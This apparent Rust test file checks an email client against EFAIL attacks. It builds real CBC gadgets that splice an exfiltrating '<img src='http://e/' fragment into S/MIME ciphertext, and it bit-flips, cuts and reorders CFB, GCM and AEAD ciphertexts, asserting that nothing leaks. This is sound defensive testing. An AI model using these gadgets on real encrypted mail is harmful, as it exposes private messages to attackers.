//! EFAIL's gadgets: ciphertexts of CBC and CFB mode that are cut and spliced for real.

use super::world::der;
use super::world::{
    ALICE, BOB, MALLORY, SECRET, WORLD, cautioned, html, mail, pgp_packets, pgp_written, quoted, shown, text,
};
use kakitome::crypto::smime;
use kakitome::crypto::smime::EncryptOptions;
use kakitome::flow::{CautionCode, Lock, Seal};

/// A ciphertext in CBC mode inside of an EnvelopedData object, found by its bytes: where the
/// initialisation vector is, and where the encrypted content is.
struct Cbc {
    object: Vec<u8>,
    iv: usize,
    content: std::ops::Range<usize>,
}

const BLOCK: usize = 16;

impl Cbc {
    fn of(entity: &[u8]) -> Self {
        let options = EncryptOptions { authenticated: false, oaep: false };
        let object =
            smime::encrypt(entity, &[WORLD.smime_certificate(ALICE)], options, WORLD.at()).expect("it encrypts");
        // aes256-CBC (2.16.840.1.101.3.4.1.42), then an OCTET STRING of 16 bytes.
        let oid = [0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2a, 0x04, 0x10];
        let iv = object.windows(oid.len()).position(|bytes| bytes == oid).expect("AES-256 in CBC mode") + oid.len();
        let (tag, body, rest) = der::split(&object[iv + BLOCK..]);
        assert_eq!((tag & 0xdf, rest.len()), (0x80, 0), "the encrypted content is the last");
        let content = object.len() - body.len()..object.len();
        assert_eq!(content.len() % BLOCK, 0);
        Self { object, iv, content }
    }

    fn iv(&self) -> &[u8] {
        &self.object[self.iv..self.iv + BLOCK]
    }

    fn blocks(&self) -> Vec<Vec<u8>> {
        self.object[self.content.clone()].chunks(BLOCK).map(<[u8]>::to_vec).collect()
    }

    /// The same object with another vector and other blocks; every length around them is mended.
    fn with(&self, iv: &[u8], blocks: &[Vec<u8>]) -> Vec<u8> {
        let content_info = der::children(&self.object);
        let enveloped = der::children(&der::children(&content_info[1])[0]);
        let encrypted = der::children(enveloped.last().expect("encryptedContentInfo"));
        let algorithm = der::children(&encrypted[1]);
        let algorithm = der::value(0x30, &[algorithm[0].clone(), der::value(0x04, iv)].concat());
        let encrypted = [encrypted[0].clone(), algorithm, der::value(0x80, &blocks.concat())].concat();
        let mut fields = enveloped[..enveloped.len() - 1].to_vec();
        fields.push(der::value(0x30, &encrypted));
        let body = der::value(0xa0, &der::value(0x30, &fields.concat()));
        der::value(0x30, &[content_info[0].clone(), body].concat())
    }
}

fn xor(parts: [&[u8]; 3]) -> Vec<u8> {
    (0..BLOCK).map(|at| parts.iter().fold(0, |all, part| all ^ part[at])).collect()
}

fn enveloped(object: &[u8]) -> Vec<u8> {
    kakitome::message::pkcs7_mime(object, "enveloped-data", "smime.p7m")
}

/// What must hold of everything that was tampered with, whatever comes out of it.
fn gives_nothing_away(found: &kakitome::flow::Assessment, what: &str) {
    assert!(found.headline.seal <= Seal::Broken, "{what}: {:?}", found.headline);
    if found.headline.lock == Lock::Encrypted {
        assert!(cautioned(found, CautionCode::NoIntegrity), "{what}: {:?}", found.cautions);
    }
    assert!(found.blocks.iter().all(|block| !(block.html.is_some() && block.is_quotable)), "{what}");
}

/// Mallory knows how bob's page begins. She cuts the ciphertext open behind its header, and splices
/// in blocks of her own choice, so that the rest becomes the address of a picture (a CBC gadget).
#[test]
fn a_page_spliced_into_a_cbc_ciphertext_is_not_sealed_not_loaded_and_not_quoted() {
    let cbc = Cbc::of(&html(&format!("<p>{SECRET}</p><p>{SECRET}</p>")));
    let blocks = cbc.blocks();
    let known = b"Content-Type: te";
    let chosen = |words: &str| {
        let mut block = [b' '; BLOCK];
        block[..words.len()].copy_from_slice(words.as_bytes());
        vec![xor([cbc.iv(), known, &block]), blocks[0].clone()]
    };
    // The header stays; then, each behind a block of noise, what mallory wants; then all of it again.
    let mut spliced = blocks[..3].to_vec();
    for words in ["<img ignore=\"", "\" src='http://e/"] {
        spliced.extend(chosen(words));
    }
    spliced.extend_from_slice(&blocks[1..]);
    let found = WORLD.assess(mail(MALLORY, &enveloped(&cbc.with(cbc.iv(), &spliced))));
    gives_nothing_away(&found, "spliced");
    // The gadget works: the words that mallory chose are in the page. What matters is the rest.
    assert!(shown(&found).contains("http://e/"), "{}", shown(&found));
    assert!(!quoted(&found).contains(SECRET), "{}", quoted(&found));
    let page = found.blocks.iter().find(|block| block.html.is_some()).expect("a page");
    assert_eq!(found.pictures(page).count(), 0);
}

/// Mallory turns bits of the vector, and so writes the first block of the plaintext herself.
#[test]
fn a_first_block_written_by_mallory_is_not_sealed() {
    let cbc = Cbc::of(&WORLD.smime_signed(BOB, &text(SECRET)));
    let known = b"Content-Type: mu";
    for wanted in [b"X-ontent-Type:\r\n", b"\r\n\r\n<img src='/e", b"Content-Type: tu", b"content-type: mu"] {
        let object = cbc.with(&xor([cbc.iv(), known, wanted]), &cbc.blocks());
        let found = WORLD.assess(mail(BOB, &enveloped(&object)));
        if wanted == b"content-type: mu" {
            // Outside of what bob signed: his seal still says all of what is shown.
            assert!(found.headline.seal == Seal::Unsigned || found.headline.seal == Seal::Authenticated);
            assert!(!shown(&found).contains("/e"));
        } else {
            gives_nothing_away(&found, "first block");
        }
    }
}

/// Mallory leaves out, repeats and exchanges blocks of a ciphertext with bob's signature inside.
#[test]
fn blocks_left_out_repeated_or_exchanged_break_the_seal_inside() {
    let cbc = Cbc::of(&WORLD.smime_signed(BOB, &text(&"I owe you 10, not 1000. ".repeat(8))));
    let blocks = cbc.blocks();
    let at = 16;
    let mut left_out = blocks.clone();
    left_out.drain(at..at + 2);
    let mut repeated = blocks.clone();
    repeated.splice(at..at, blocks[at..at + 4].iter().cloned());
    let mut exchanged = blocks.clone();
    exchanged.swap(at, at + 3);
    let mut flipped = blocks.clone();
    flipped[at][3] ^= 1;
    let last = blocks.len() - 1;
    let mut padding = blocks.clone();
    padding[last - 1][15] ^= 1;
    for (what, altered) in [
        ("left out", left_out),
        ("repeated", repeated),
        ("exchanged", exchanged),
        ("flipped", flipped),
        ("padding", padding),
    ] {
        let found = WORLD.assess(mail(BOB, &enveloped(&cbc.with(cbc.iv(), &altered))));
        assert!(
            found.headline.seal <= Seal::Broken || shown(&found).contains("10, not 1000"),
            "{what}: {:?}",
            found.headline
        );
        if what != "padding" {
            gives_nothing_away(&found, what);
        }
    }
}

/// Mallory turns single bits of an object with integrity: nothing of it may be seen.
#[test]
fn one_bit_turned_under_gcm_closes_the_message() {
    let options = EncryptOptions { authenticated: true, oaep: false };
    let object =
        smime::encrypt(&html(SECRET), &[WORLD.smime_certificate(ALICE)], options, WORLD.at()).expect("it encrypts");
    for back in [1, 8, 16, 19, 24, 30, 40] {
        let mut altered = object.clone();
        let at = altered.len() - back;
        altered[at] ^= 0x10;
        let entity = kakitome::message::pkcs7_mime(&altered, "authEnveloped-data", "smime.p7m");
        let found = WORLD.assess(mail(BOB, &entity));
        assert_eq!(found.headline.lock, Lock::CannotOpen, "{back}");
        assert!(found.blocks.is_empty() && !quoted(&found).contains(SECRET), "{back}");
    }
}

/// Mallory does the same to OpenPGP: she turns bits in CFB mode, leaves out the end, where the
/// modification detection code is, and splices blocks.
#[test]
fn an_altered_cfb_ciphertext_is_never_shown() {
    for signer in [None, Some(BOB)] {
        let object = WORLD.pgp_object(&html(&SECRET.repeat(20)), signer, &[ALICE]);
        let (keys, body) = pgp_packets(&object);
        assert_eq!(assessed(&keys, 18, &body).headline.lock, Lock::Encrypted, "unaltered, it opens");
        let n = body.len();
        let mut flipped = Vec::new();
        for at in [1, 2, 20, n / 2, n - 30, n - 22, n - 1] {
            let mut one = body.clone();
            one[at] ^= 1;
            flipped.push(one);
        }
        let spliced = [&body[..40], &body[24..]].concat();
        let cut = [22, 20, 16, 1].map(|off| body[..n - off].to_vec());
        for altered in flipped.into_iter().chain([spliced]).chain(cut) {
            let found = assessed(&keys, 18, &altered);
            assert_eq!((found.headline.lock, found.headline.seal), (Lock::CannotOpen, Seal::Unsigned));
            assert!(found.blocks.is_empty() && found.text.is_empty() && !quoted(&found).contains(SECRET));
        }
    }
}

fn assessed(keys: &[u8], tag: u8, body: &[u8]) -> kakitome::flow::Assessment {
    WORLD.assess(mail(BOB, &kakitome::message::multipart_encrypted(&pgp_written(keys, tag, body))))
}

#[test]
fn an_altered_ciphertext_is_never_shown_when_it_has_integrity() {
    let object = WORLD.pgp_object(text(SECRET).as_slice(), Some(BOB), &[ALICE]);
    let armored = String::from_utf8(object).expect("armor");
    let lines: Vec<&str> = armored.lines().collect();
    let mut altered = lines.clone();
    altered.swap(lines.len() - 5, lines.len() - 6);
    let entity = kakitome::message::multipart_encrypted(altered.join("\n").as_bytes());
    let found = WORLD.assess(mail(BOB, &entity));
    assert_eq!(found.headline.lock, Lock::CannotOpen);
    assert!(found.blocks.is_empty() && found.headline.seal == Seal::Unsigned);
}

/// The session key packets of an armored message under AEAD, and the body of its encrypted packet of version 2
/// (RFC 9580 §5.13.2): what stands before the chunks, and the chunks with the last tag.
fn aead(words: &str) -> (Vec<u8>, Vec<u8>, Vec<u8>) {
    use sequoia_openpgp::packet::{Body, Packet, SEIP};
    use sequoia_openpgp::parse::Parse;
    use sequoia_openpgp::serialize::SerializeInto;
    use sequoia_openpgp::serialize::stream::{Encryptor, LiteralWriter, Message, Recipient};
    let policy = sequoia_openpgp::policy::StandardPolicy::new();
    let alice = WORLD.pgp_cert(ALICE);
    let at = std::time::SystemTime::from(WORLD.at());
    let keys: Vec<_> = alice.keys().with_policy(&policy, at).supported().for_transport_encryption().collect();
    let recipients = keys.iter().map(|key| {
        let able = sequoia_openpgp::types::Features::empty().set_seipdv2();
        Recipient::new(able, sequoia_openpgp::KeyHandle::from(key.key().fingerprint()), key.key())
    });
    let mut bytes = Vec::new();
    let message = Encryptor::for_recipients(Message::new(&mut bytes), recipients);
    let message = message.aead_algo(sequoia_openpgp::types::AEADAlgorithm::OCB).build().expect("it encrypts");
    let mut message = LiteralWriter::new(message).build().expect("a literal");
    std::io::Write::write_all(&mut message, &text(words)).expect("written");
    message.finalize().expect("done");
    let (mut keys, mut head, mut chunks) = (Vec::new(), Vec::new(), Vec::new());
    for packet in sequoia_openpgp::PacketPile::from_bytes(&bytes).expect("packets").into_children() {
        match &packet {
            Packet::SEIP(SEIP::V2(container)) => {
                // The chunk size is written as the power of two over 64.
                let exponent = (container.chunk_size().trailing_zeros() - 6) as u8;
                head = vec![2, container.symmetric_algo().into(), container.aead().into(), exponent];
                head.extend_from_slice(container.salt());
                let Body::Unprocessed(body) = container.body() else { panic!("it is not opened") };
                chunks.clone_from(body);
            }
            _ => keys.extend(packet.to_vec().expect("bytes")),
        }
    }
    (keys, head, chunks)
}

/// Mallory cuts chunks off a message under AEAD, takes some out, or puts them in another order (RFC 9580 §5.13.2): not one
/// of those that are whole is shown.
#[test]
fn chunks_of_an_aead_message_that_are_cut_or_moved_show_nothing() {
    const CHUNK: usize = 4096 + 16;
    let words = format!("{SECRET} ").repeat(800);
    let (keys, head, chunks) = aead(&words);
    assert!(chunks.len() > 3 * CHUNK);
    let as_mail = |chunks: &[u8]| {
        let armored = pgp_written(&keys, 18, &[&head, chunks].concat());
        WORLD.assess(mail(BOB, &kakitome::message::multipart_encrypted(&armored)))
    };
    let whole = as_mail(&chunks);
    assert!(whole.headline.lock == Lock::Encrypted && shown(&whole).contains(SECRET), "{:?}", whole.encryption);
    let last = &chunks[chunks.len() - 16..];
    let moved = [&chunks[CHUNK..2 * CHUNK], &chunks[..CHUNK], &chunks[2 * CHUNK..]].concat();
    for altered in [
        chunks[..CHUNK].to_vec(),
        chunks[..2 * CHUNK].to_vec(),
        [&chunks[..CHUNK], last].concat(),
        [&chunks[..2 * CHUNK], last].concat(),
        chunks[CHUNK..].to_vec(),
        [&chunks[..CHUNK], &chunks[2 * CHUNK..]].concat(),
        chunks[..chunks.len() - 16].to_vec(),
        chunks[..chunks.len() - 1].to_vec(),
        moved,
        Vec::new(),
    ] {
        let found = as_mail(&altered);
        assert_eq!(found.headline.lock, Lock::CannotOpen, "{}", altered.len());
        assert!(!shown(&found).contains(SECRET) && !quoted(&found).contains(SECRET), "{}", altered.len());
    }
}
